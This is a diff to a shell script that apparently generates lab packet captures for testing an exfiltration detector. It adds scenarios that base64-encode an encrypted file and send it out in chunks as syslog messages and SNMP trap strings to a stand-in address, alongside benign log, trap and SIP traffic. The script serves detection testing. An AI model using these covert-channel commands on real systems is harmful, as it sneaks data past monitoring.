@@ -4,11 +4,12 @@
 # into tests/replay/<scenario>/input.pcap.
 #
 # Needs root and (Debian names): tcpdump ethtool iproute2 iputils-ping curl wget zip nginx-light vsftpd lftp swaks
-# python3-aiosmtpd netcat-openbsd openssl samba smbclient.
+# python3-aiosmtpd netcat-openbsd openssl samba smbclient bsdextrautils bsdutils
+# snmp sip-tester.
 set -eu
 export XFL_PREFIX=${XFL_PREFIX:-thf}
 all=(http_archive_curl ftp_report_curl mail_report_swaks raw_pieces_nc posts_curl program_wget covert_ping staged_smbclient
-    benign_theft_tools)
+    logs_logger traps_snmptrap benign_theft_tools benign_messages)
 # shellcheck source=tests/lab/lab.sh
 . "$(dirname "$0")/lab.sh"
 out=203.0.113.20
@@ -159,6 +160,30 @@ CONF
     printf 'Secret-1\nSecret-1\n' | smbpasswd -c "$dir/smb.conf" -s -a root >/dev/null 2>&1
     bg smbd "${srv[@]}" smbd -F --no-process-group -s "$dir/smb.conf"
     sleep 1.5
+}
+
+logs_logger() { # an encrypted file as lines of a log
+    head -c 12000 "$dir/share/plans.img" | base64 -w 600 | while read -r line; do
+        "${cli[@]}" logger -n $out -P 514 -d -t backup "$line"
+    done
+}
+
+traps_snmptrap() { # the same as texts of traps
+    head -c 9000 "$dir/share/plans.img" | base64 -w 600 | while read -r line; do
+        "${cli[@]}" snmptrap -v 2c -c public $out '' 1.3.6.1.4.1.8072.2.3.0.1 1.3.6.1.4.1.8072.2.3.2.1 s "$line"
+    done
+}
+
+benign_messages() { # logs and traps to a provider's servers, and calls
+    local i
+    bg uas "${srv[@]}" sipp -sn uas -i $out -p 5060 -nostdin
+    for i in $(seq 60); do
+        "${cli[@]}" logger -n $out -P 514 -d -t sshd "Accepted publickey for jo from 10.20.1.$i port $((40000 + i)) ssh2: ED25519 SHA256:$(
+            echo "$i" | sha256sum | xxd -r -p | base64 -w 0 | tr -d =)"
+        "${cli[@]}" logger -n $out -P 514 -d -t proxy "10.20.1.$i GET http://shop.example.test/a?sum=$(echo "$i" | sha256sum | cut -c1-64) 200"
+        "${cli[@]}" snmptrap -v 2c -c public 203.0.113.21 '' 1.3.6.1.6.3.1.1.5.3 1.3.6.1.2.1.2.2.1.2 s "GigabitEthernet0/$((i % 24))"
+    done
+    "${cli[@]}" timeout 30 sipp -sn uac $out:5060 -i 10.20.1.10 -p 5060 -m 20 -r 10 -d 200 -nostdin || true
 }
 
 benign_theft_tools() { # the same programs, as people use them
